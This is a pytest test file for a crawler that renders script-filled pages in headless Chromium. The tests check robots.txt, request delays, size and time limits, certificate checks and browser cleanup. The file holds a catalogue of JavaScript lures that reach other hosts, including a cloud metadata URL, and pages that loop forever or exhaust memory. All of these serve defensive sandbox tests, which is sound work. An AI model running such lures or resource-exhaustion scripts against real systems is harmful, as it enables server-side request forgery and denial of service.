"""Sources with ``render: true``: pages that script fills, in a real Chromium, under every rule of a crawl."""

from __future__ import annotations

import asyncio
import logging
import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import gettempdir

import pytest
from sqlmodel import col, select

from crawlers.chromium import no_browser
from crawlers.job import USER_AGENT, PassReport
from crawlers.launch import launch_crawl
from crawlers.source import Source
from models import Database, Outcome, Snapshot, SnapshotKind
from models.bodies import load_body
from tests.crawlers.conftest import a_job, a_source
from tests.crawlers.listeners import Listener, listening
from tests.crawlers.shells import HTML, said, shell, text_of, write_shells
from tests.crawlers.site import Answer, Site, page, rows, serve
from tests.crawlers.test_passes import _children
from tests.crawlers.tls import self_signed

Crawl = Callable[..., PassReport]
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(bool(no_browser()), reason=f"NO RENDERING OF PAGES WAS TESTED: {no_browser()}"),
]
LIST = "/tzgg/index.html"


@pytest.fixture
def rendered(site: Site) -> Source:
    return a_source(site, render=True)


def stored(store: Database, kind: SnapshotKind = SnapshotKind.ARTICLE) -> list[tuple[Snapshot, str]]:
    with store.reading() as session:
        found = session.exec(select(Snapshot).where(Snapshot.kind == kind).order_by(col(Snapshot.id))).all()
        return [(s, load_body(session, s.body_sha256).decode() if s.body_sha256 else "") for s in found]


def rules(report: PassReport) -> list[str]:
    return [str(warning["rule"]) for warning in report.warnings]


def test_without_rendering_the_list_is_empty_and_warned_of(site: Site, source: Source, crawl: Crawl) -> None:
    write_shells(site, rows(3, 1))
    report = crawl(source)
    assert report.outcome is Outcome.EMPTY
    assert rules(report) == ["no-rows"]
    assert site.paths() == [LIST]


def test_what_script_writes_is_read_and_stored(
    site: Site, store: Database, rendered: Source, crawl: Crawl
) -> None:
    listed = rows(3, 1)
    write_shells(site, listed, script="document.title = navigator.userAgent + '|' + navigator.webdriver")
    report = crawl(rendered)
    assert report.new_articles == 3
    assert rules(report) == []
    for (snapshot, body), (_, title, _) in zip(stored(store), listed, strict=True):
        assert text_of(title) in body
        assert body.startswith("<!DOCTYPE html><html>")
        assert snapshot.headers["x-jianbao-rendered"].startswith("Chromium ")
        assert snapshot.status == 200
    [(_, body)] = stored(store, SnapshotKind.LIST)
    assert f"<title>{USER_AGENT}|true</title>" in body
    assert site.agents == {USER_AGENT}
    # Once in a pass each: nothing that only looks good, and no script again.
    asked = site.paths()
    assert len(asked) == len(set(asked)) == 1 + 3 + 1 + 4
    assert {path for path in asked if path.startswith(("/js", "/css", "/img"))} == {"/js/app.js"}


def test_the_same_bytes_are_unchanged_and_others_are_not(
    site: Site, store: Database, rendered: Source, crawl: Crawl
) -> None:
    write_shells(site, rows(3, 1))
    again = a_source(site, render=True, recheck_days=90)
    assert crawl(again).new_articles == 3
    second = crawl(again, day=1)
    assert (second.outcome, second.changed_articles) == (Outcome.UNCHANGED, 0)
    assert second.number("recheck", Outcome.UNCHANGED) == 3
    # The shell is the same, so the site would say 304; the text is another one.
    site.answers["/api/article1.json"] = said(paragraphs=["本通知已作修改，请以修改后的内容为准。"] * 12)
    third = crawl(again, day=2)
    assert third.changed_articles == 1
    assert 304 not in {status for _, path, status in site.asked if path != "/robots.txt"}


def test_what_is_no_page_is_left_as_it_came(
    site: Site, store: Database, rendered: Source, crawl: Crawl
) -> None:
    write_shells(site, rows(2, 1))
    pdf = b"%PDF-1.4 " + b"x" * 900
    site.answers[rows(2, 1)[0][0]] = Answer(pdf, headers={"Content-Type": "application/pdf"})
    assert crawl(rendered).new_articles == 2
    by_url = {s.url: (s, body) for s, body in stored(store)}
    snapshot, body = by_url[site.base + rows(2, 1)[0][0]]
    assert body.encode() == pdf
    assert "x-jianbao-rendered" not in snapshot.headers


def test_one_request_at_a_time_with_its_delay_whatever_the_page_does(
    site: Site, rendered: Source, crawl: Crawl
) -> None:
    burst = "for (let n = 0; n < 6; n++) fetch('/api/more' + n + '.json')"
    write_shells(site, rows(2, 1), script=burst)
    for number in range(6):
        site.answers[f"/api/more{number}.json"] = said(rows=[])
    report = crawl(rendered, delay_s=0.2)
    assert report.new_articles == 2
    assert len(site.paths()) == 1 + 2 + 1 + 3 + 6
    assert site.overlaps == 0
    assert site.shortest_rest >= 0.19


def test_robots_txt_holds_for_what_a_page_asks_for(site: Site, rendered: Source, crawl: Crawl) -> None:
    write_shells(site, rows(2, 1))
    site.answers["/robots.txt"] = Answer(b"User-agent: *\nDisallow: /api/\n")
    report = crawl(rendered)
    assert report.outcome is Outcome.EMPTY
    assert not [path for path in site.paths() if path.startswith("/api")]
    assert "robots.txt forbids it" in str([w for w in report.warnings if w["rule"] == "rendering"])


#: Every way that we know by which a page reaches another machine; ``@`` is an address of this one.
WAYS = {
    "fetch": "fetch('http://@/secret', {mode: 'no-cors'})",
    "post": "fetch('http://@/secret', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://@/secret'); x.send()",
    "redirect": "fetch('/away', {mode: 'no-cors'})",
    "number": "fetch('http://2130706433:' + '@'.split(':')[1] + '/', {mode: 'no-cors'})",
    "name": "fetch('http://localhost:' + '@'.split(':')[1] + '/', {mode: 'no-cors'})",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'http://@/x.js'}))",
    "style": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: 'http://@/x.css'}))",
    "preconnect": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'preconnect', href: 'http://@'}))",
    "image": "new Image().src = 'http://@/x.png'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://@/'}))",
    "window": "window.open('http://@/')",
    "beacon": "navigator.sendBeacon('http://@/', 'x')",
    "events": "new EventSource('http://@/')",
    "socket": "new WebSocket('ws://@/')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://@/', {mode: 'no-cors'})\"])))",
    "rtc": "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:@'},"
    " {urls: 'turn:@?transport=tcp', username: 'a', credential: 'b'}]});"
    " c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o))",
    "leave": "location.href = 'http://@/'",
    "form": "const f = document.createElement('form'); f.action = 'http://@/'; f.method = 'POST';"
    " document.body.append(f); f.submit()",
}


@pytest.fixture
def inner() -> Iterator[Listener]:
    with listening() as heard:
        yield heard


@pytest.mark.parametrize("way", WAYS)
def test_no_page_reaches_a_forbidden_address(
    site: Site, store: Database, crawl: Crawl, inner: Listener, way: str
) -> None:
    """Behind a proxy, which is the site on loopback, so that loopback itself need not be allowed."""
    source = behind_proxy(site)
    listed = [("http://wjw.example.test/a/1.html", "关于印发云岭省行动方案的通知", "2026-03-02")]
    write_shells(site, listed)
    site.answers["/a/1.html"] = site.answers[listed[0][0]]
    site.answers["/away"] = Answer(status=302, headers={"Location": f"http://{inner.address}/secret"})
    lure = WAYS[way].replace("@", inner.address)
    site.answers[LIST] = shell("通知公告", "/api/list.json", f"document.body.onload = () => {{ {lure} }}")
    report = crawl(source, allow_loopback=False)
    assert inner.heard == []
    assert [path for path in site.paths() if "secret" in path or inner.address in path] == []
    assert report.new_articles == (0 if way == "leave" else 1), report


def test_no_page_reaches_a_private_network_through_the_proxy(site: Site, crawl: Crawl) -> None:
    listed = [("http://wjw.example.test/a/1.html", "关于印发云岭省行动方案的通知", "2026-03-02")]
    write_shells(site, listed, script="fetch('http://10.1.2.3/latest/meta-data', {mode: 'no-cors'})")
    site.answers["/a/1.html"] = site.answers[listed[0][0]]
    report = crawl(behind_proxy(site), allow_loopback=False)
    assert report.new_articles == 1
    assert "http://wjw.example.test/api/list.json" in site.paths()  # what may be asked for goes by the proxy
    assert not [path for path in site.paths() if "10.1.2.3" in path]
    assert "10.1.2.3 is not a public address" in str(report.warnings)


def test_the_listener_hears_what_is_allowed(
    site: Site, rendered: Source, crawl: Crawl, inner: Listener
) -> None:
    """That nothing is heard above says something."""
    write_shells(site, rows(1, 1), script=WAYS["fetch"].replace("@", inner.address))
    assert crawl(rendered, retries=0, timeout_s=2).new_articles == 1
    assert inner.heard != []


def behind_proxy(site: Site) -> Source:
    return a_source(
        site,
        home="http://wjw.example.test/",
        columns=[{"name": "通知公告", "url": f"http://wjw.example.test{LIST}"}],
        proxy=site.base,
        render=True,
    )


REFUSALS = {
    "412": Answer(b"<html><script>$_ts={}; fetch('/solve')</script></html>", 412, HTML),
    "a challenge that is answered 200": Answer(
        b"<html><body><script>document.cookie='__jsl_clearance=1'; fetch('/solve'); location.reload()</script>"
        b"</body></html>",
        headers=HTML,
    ),
    "a refusal written by script": Answer(
        "<html><head><title></title></head><body><script>document.body.textContent ="
        " '您的访问' + '请求被拦截'</script></body></html>".encode(),
        headers=HTML,
    ),
    "a page that loads itself again": Answer(
        "<html><head><title></title></head><body><script>document.body.textContent = '请完成' + '安全验证';"
        "document.cookie = 'passed=1'; location.reload()</script></body></html>".encode(),
        headers=HTML,
    ),
}


@pytest.mark.parametrize("refusal", REFUSALS)
def test_refusals_are_recognised_and_no_challenge_is_run(
    site: Site, rendered: Source, crawl: Crawl, refusal: str
) -> None:
    site.answers[LIST] = REFUSALS[refusal]
    report = crawl(rendered)
    assert report.outcome is Outcome.BLOCKED, report
    assert site.paths() == [LIST]


def test_where_script_leads_is_a_step_like_a_redirect(
    site: Site, store: Database, rendered: Source, crawl: Crawl
) -> None:
    write_shells(site, rows(2, 1))
    site.answers["/new/index.html"] = site.answers[LIST]
    site.answers[LIST] = Answer(
        b"<html><script>location.href = '/new/index.html'</script></html>", headers=HTML
    )
    assert crawl(rendered).new_articles == 2
    [(snapshot, _)] = stored(store, SnapshotKind.LIST)
    assert (snapshot.url, snapshot.final_url) == (site.base + LIST, f"{site.base}/new/index.html")


HOSTILE: dict[str, tuple[Callable[[str], Answer], str]] = {
    "never rests": (lambda path: script("for (;;) {}"), "come to rest"),
    "rests, then never again": (
        lambda path: script("setTimeout(() => { for (;;) {} }, 300)"),
        "come to rest",
    ),
    "leads on for ever": (
        lambda path: script(f"location.href = '{path}?' + Math.random()"),
        "max redirections",
    ),
    "grows": (
        lambda path: script("document.body.append('x'.repeat(3 * 2 ** 20))"),
        "longer than the limit",
    ),
    "eats memory": (
        lambda path: script("const held = []; for (;;) held.push(new Array(1e6).fill(held.length))"),
        "",
    ),
}


def script(what: str) -> Answer:
    return Answer(
        f"<!DOCTYPE html><html><body><p>x</p><script>{what}</script></body></html>".encode(), 200, HTML
    )


@pytest.mark.parametrize("trick", HOSTILE)
def test_a_hostile_page_costs_only_itself(
    site: Site, store: Database, rendered: Source, crawl: Crawl, trick: str
) -> None:
    listed = rows(3, 1)
    write_shells(site, listed)
    path = listed[1][0]
    made, reason = HOSTILE[trick]
    site.answers[path] = made(path)
    report = crawl(rendered, max_body_mb=2, timeout_s=3)
    ended = {s.url: s for s, _ in stored(store)}
    bad = ended.pop(site.base + path)
    assert (bad.outcome, reason in (bad.error or "")) == (Outcome.FAILED, True), bad.error
    assert {row.outcome for row in ended.values()} == {Outcome.NEW}
    assert report.new_articles == 2


def test_what_is_too_long_or_too_much_is_not_had_and_said(site: Site, rendered: Source, crawl: Crawl) -> None:
    greedy = "fetch('/big'); for (let n = 0; n < 60; n++) fetch('/more' + n)"
    write_shells(site, rows(1, 1), script=f"document.body.onload = () => {{ {greedy} }}")
    site.answers["/big"] = Answer(big=3 * 2**20, headers=HTML)
    report = crawl(rendered, max_body_mb=2)
    assert len([path for path in site.paths() if path.startswith(("/more", "/big"))]) <= 40
    assert "rendering" in rules(report)
    assert "limit of 2 MB" in str(report.warnings)


def test_a_certificate_is_verified_unless_its_source_says_why_not(tmp_path: Path, crawl: Crawl) -> None:
    context, _ = self_signed(tmp_path, "127.0.0.1")
    with serve(context) as site:
        write_shells(site, rows(2, 1))
        refused = crawl(a_source(site, render=True))
        assert (refused.outcome, "certificate" in str(refused.error).lower()) == (Outcome.FAILED, True)
        assert site.asked == []
        trusting = a_source(site, render=True, access={"certificate": "自签名证书，2026-03 已告知站点"})
        assert crawl(trusting, day=1).new_articles == 2


# ---- the browser ends with its pass ----------------------------------------------------------------------------


def _browsers() -> list[int]:
    """Chromiums, and the drivers between them and us, of any pass of these tests."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            command = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        ours = b"jianbao-browser-" in command or (b"playwright" in command and b"run-driver" in command)
        if ours and state != "Z":
            found.append(int(entry.name))
    return found


def _gone(limit_s: float = 20) -> bool:
    until = time.monotonic() + limit_s
    while _browsers() and time.monotonic() < until:
        time.sleep(0.05)
    return not _browsers()


def _kill_child(child: int) -> None:
    os.kill(child, signal.SIGKILL)


def _kill_group(child: int) -> None:
    os.killpg(child, signal.SIGKILL)


@pytest.mark.parametrize("kill", [_kill_child, _kill_group])
def test_a_killed_pass_leaves_no_browser(
    site: Site, store: Database, rendered: Source, kill: Callable[[int], None]
) -> None:
    write_shells(site, rows(2, 1))
    slow = said(rows=[])
    slow.delay_s = 30
    site.answers["/api/list.json"] = slow
    seen: list[int] = []

    def kill_while_it_renders() -> None:
        until = time.monotonic() + 30
        while not (_browsers() and "/js/app.js" in site.paths()) and time.monotonic() < until:
            time.sleep(0.02)
        seen.extend(_browsers())
        for child in _children():
            kill(child)

    killer = threading.Thread(target=kill_while_it_renders)
    killer.start()
    report = asyncio.run(launch_crawl(rendered, a_job(store, timeout_s=60), logging.getLogger("test")))
    killer.join()
    assert (report.outcome, "SIGKILL" in str(report.error)) == (Outcome.FAILED, True)
    assert len(seen) > 2
    assert _gone(), _browsers()
    assert not list(Path(gettempdir()).glob("jianbao-browser-*"))


def test_a_browser_that_dies_costs_one_page(site: Site, rendered: Source, crawl: Crawl) -> None:
    listed = rows(3, 1)
    write_shells(site, listed)
    kind = site.answers["/api/article1.json"]
    assert isinstance(kind, Answer)

    def kill_it() -> Answer:
        for process in _browsers():
            if b"--remote-debugging-pipe" in Path(f"/proc/{process}/cmdline").read_bytes():
                os.kill(process, signal.SIGKILL)
        return kind

    site.answers["/api/article1.json"] = kill_it
    report = crawl(rendered)
    assert report.counts["article"] == {"new": 2, "failed": 1}
    assert _gone(), _browsers()


def test_a_pass_that_ends_or_runs_out_of_time_leaves_no_browser(
    site: Site, rendered: Source, crawl: Crawl
) -> None:
    write_shells(site, rows(2, 1))
    assert crawl(rendered).new_articles == 2
    assert _gone(), _browsers()
    slow = said(rows=[])
    slow.delay_s = 30
    site.answers["/api/list.json"] = slow
    late = crawl(rendered, day=1, time_limit_s=4, timeout_s=60)
    assert late.outcome is Outcome.FAILED
    assert _gone(), _browsers()


def test_a_browser_that_does_not_start_is_told_of(
    site: Site, tmp_path: Path, rendered: Source, crawl: Crawl
) -> None:
    site.answers[LIST] = page("x")
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\necho no display here >&2\nexit 1\n")
    broken.chmod(0o755)
    report = crawl(rendered, chromium=str(broken))
    assert report.outcome is Outcome.FAILED
    assert f"{broken} did not start: no display here" in str(report.error)
